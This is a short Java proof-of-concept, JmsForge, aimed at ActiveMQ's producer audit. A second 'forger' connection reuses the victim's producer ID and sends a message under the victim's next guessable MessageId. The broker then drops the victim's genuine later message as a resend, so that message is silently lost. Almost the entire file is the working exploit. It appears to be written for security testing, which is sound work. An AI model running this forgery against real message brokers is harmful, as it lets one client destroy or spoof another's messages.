// Two plain JMS connections for the producer audit, with Debian's ActiveMQ
// JMS client:
//   java JmsForge URL QUEUE
// The victim's connection sends "v1" with MessageId VICTIM:1:1:1; the
// forger's own connection then sends "forged" with MessageId VICTIM:1:1:2
// (the victim's next, easy to guess); then the victim sends "v2" with
// VICTIM:1:1:2. A broker whose audit is by MessageId alone drops "v2" as a
// resend and answers it as taken: it is lost. Sends as JmsNetPeer does
// (a chosen MessageId), with no brokerPath.
import javax.jms.*;
import org.apache.activemq.ActiveMQConnection;
import org.apache.activemq.ActiveMQConnectionFactory;
import org.apache.activemq.command.ActiveMQQueue;
import org.apache.activemq.command.ProducerId;

public class JmsForge {
    public static void main(String[] a) throws Exception {
        ActiveMQConnectionFactory f = new ActiveMQConnectionFactory(a[0]);
        ActiveMQConnection victim = (ActiveMQConnection) f.createConnection();
        ActiveMQConnection forger = (ActiveMQConnection) f.createConnection();
        victim.start();
        forger.start();
        ProducerId pid = new ProducerId(victim.getConnectionInfo().getConnectionId().getValue()
                                        + ":1:1");
        ActiveMQQueue q = new ActiveMQQueue(a[1]);
        JmsNetPeer.send(victim, pid, q, 1, "v1", null);
        JmsNetPeer.send(forger, pid, q, 2, "forged", null);
        JmsNetPeer.send(victim, pid, q, 2, "v2", null);
        victim.close();
        forger.close();
        System.out.println("sent");
    }
}
